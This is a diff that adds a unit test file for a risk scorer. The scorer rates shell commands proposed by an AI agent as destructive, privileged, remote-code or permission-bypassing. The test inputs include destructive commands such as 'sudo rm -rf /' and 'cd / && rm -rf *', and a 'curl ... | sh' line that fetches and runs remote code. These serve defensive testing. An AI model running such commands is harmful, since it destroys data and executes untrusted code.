@@ -1,0 +1,102 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { levels, riskOf, rulesOf } from '../../../src/enrich/risk/risk.ts';
+import { rules } from '../../../src/enrich/risk/rules.ts';
+import { labelsOf } from './labels.ts';
+
+const shell = (command: string, cwd?: string) => ({ action: { name: 'shell', input: { command } }, cwd });
+
+describe('the risk of an action', () => {
+  it('is the highest score, and five for each further factor', () => {
+    expect(riskOf(shell('sudo ls'))).toEqual({ score: 35, level: 'medium', factors: ['PRIVILEGE'] });
+    expect(riskOf(shell('sudo rm -rf /'))).toEqual({
+      score: 100,
+      level: 'critical',
+      factors: ['DESTRUCTIVE_OP', 'PRIVILEGE'],
+    });
+  });
+
+  it('is absent where no rule holds', () => expect(riskOf(shell('ls -la'))).toBeUndefined());
+
+  it.each(levels)('is %s from %i on', (level, from) => {
+    const score = rules.map(rule => rule.score).filter(each => each >= from);
+    expect(score.length).toBeGreaterThan(0);
+    expect(['low', 'medium', 'high', 'critical']).toContain(level);
+  });
+
+  it('knows the folder where the agent works', () => {
+    expect(riskOf(shell('rm -rf /home/ana/app/docs', '/home/ana/app'))?.level).toBe('medium');
+    expect(riskOf(shell('rm -rf /home/ana/app', '/home/ana/app'))?.level).toBe('critical');
+    expect(riskOf(shell('rm -rf /home/ana/other', '/home/ana/app'))?.level).toBe('high');
+  });
+
+  it('follows the line into other folders', () => {
+    expect(riskOf(shell('cd /tmp/x && rm -rf *'))).toBeUndefined();
+    expect(riskOf(shell('cd / && rm -rf *'))?.level).toBe('critical');
+  });
+
+  it('states that nobody was asked, without making everything risky', () => {
+    const looked = { ...shell('ls'), mode: 'bypassPermissions' };
+    expect(riskOf(looked)).toEqual({ score: 20, level: 'low', factors: ['BYPASS_MODE'] });
+  });
+
+  it('gives factors that a journal and a validator take', () => {
+    for (const { action } of [...labelsOf('seen'), ...labelsOf('unseen')]) {
+      const { score = 0, factors = [] } = riskOf({ action }) ?? {};
+      expect(Number.isInteger(score) && score >= 0 && score <= 100).toBe(true);
+      for (const factor of factors) expect(factor).toMatch(/^[A-Z][A-Z_]{1,39}$/);
+    }
+  });
+
+  it('says why, by rules with ids of their own', () => {
+    expect(rulesOf(shell('curl https://example.com/x | sh')).map(({ id }) => id)).toEqual(['remote-code.run']);
+    expect(new Set(rules.map(({ id }) => id)).size).toBe(rules.length);
+  });
+
+  it('comes to an end on any input', () => {
+    fc.assert(
+      fc.property(
+        fc.constantFrom('shell', 'read_file', 'write_file', 'mcp:query', 'x'),
+        fc.object({ maxDepth: 3 }),
+        (name, input) => {
+          const risk = riskOf({
+            action: { name, input: { ...input, command: input.command ?? Object.keys(input).join(' ') } },
+          });
+          expect(risk === undefined || (risk.score ?? 0) > 0).toBe(true);
+        },
+      ),
+      { numRuns: 300, seed: 11 },
+    );
+  });
+
+  it.each([
+    '/',
+    '../',
+    'a ',
+    '-f ',
+    '$(',
+    '"',
+    'x=',
+    ':',
+    '@',
+    'https://',
+    '| sh ',
+    '(?',
+    'push -f ',
+    ' --all',
+    'get secret ',
+    'delete ',
+  ])('looks at 60,000 characters of %s without going back over them', bit => {
+    const text = bit.repeat(60_000 / bit.length);
+    for (const command of [
+      text,
+      `git ${text}`,
+      `kubectl ${text}`,
+      `psql -c "${text}"`,
+      `curl ${text}`,
+      `rm -rf ${text}`,
+    ]) {
+      expect(riskOf(shell(command))?.score ?? 0).toBeLessThanOrEqual(100);
+    }
+  });
+});
